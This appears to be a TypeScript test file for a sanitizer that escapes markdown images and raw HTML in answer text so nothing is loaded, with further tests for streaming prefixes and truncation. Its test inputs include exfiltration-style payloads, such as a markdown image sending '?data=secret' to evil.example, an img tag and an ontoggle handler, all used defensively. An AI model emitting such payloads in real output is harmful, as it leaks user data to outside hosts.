import { firstPart, MAX_TEXT, safeText, textSoFar } from './answerText.ts';

it.each([
  ['![chart](https://evil.example/p.png?data=secret)', '!\\[chart](https://evil.example/p.png?data=secret)'],
  ['![chart][1]\n\n[1]: https://evil.example', '!\\[chart][1]\n\n[1]: https://evil.example'],
  ['<img src="https://evil.example/p.png">', '&lt;img src="https://evil.example/p.png">'],
  ['<image src=x>', '&lt;image src=x>'],
  ['<p style=background:url(//evil.example)>', '&lt;p style=background:url(//evil.example)>'],
  ['<details open ontoggle=x>', '&lt;details open ontoggle=x>'],
  ['1 < 2, and `a<b>(1 < 2)` is code [1]', '1 &lt; 2, and `a<\u200bb>(1 < 2)` is code [1]'],
  ['```html\n<p>\n```\n<p>', '```html\n<\u200bp>\n```\n&lt;p>'],
  ['~~~\n```\n<p> ![x](y)\n~~~\n<p>', '~~~\n```\n<\u200bp> !\u200b[x](y)\n~~~\n&lt;p>'],
])('of %s nothing is loaded', (text, safe) => {
  expect(safeText(text)).toBe(safe);
});

it('each longer part begins with the one before it, wherever the text is cut', () => {
  const text = 'See ![chart](https://evil.example) and <img src="x"> and `<b>bold</b>` 😀\n```ts\n<T>![\n```\n'.repeat(
    200,
  );
  let before = '';
  for (let end = 0; end <= text.length; end += 1) {
    const shown = textSoFar(text.slice(0, end).replace(/[\uD800-\uDBFF]$/, ''));
    expect(shown.startsWith(before)).toBe(true);
    expect(shown.isWellFormed()).toBe(true);
    before = shown;
  }
  expect(firstPart(text).text.startsWith(before)).toBe(true);
});

it('leaves the rest of a long answer to the tab', () => {
  expect(firstPart('x'.repeat(MAX_TEXT))).toMatchObject({ cut: false });
  const { text, cut } = firstPart('😀'.repeat(MAX_TEXT));
  expect(cut).toBe(true);
  expect(text.isWellFormed()).toBe(true);
});
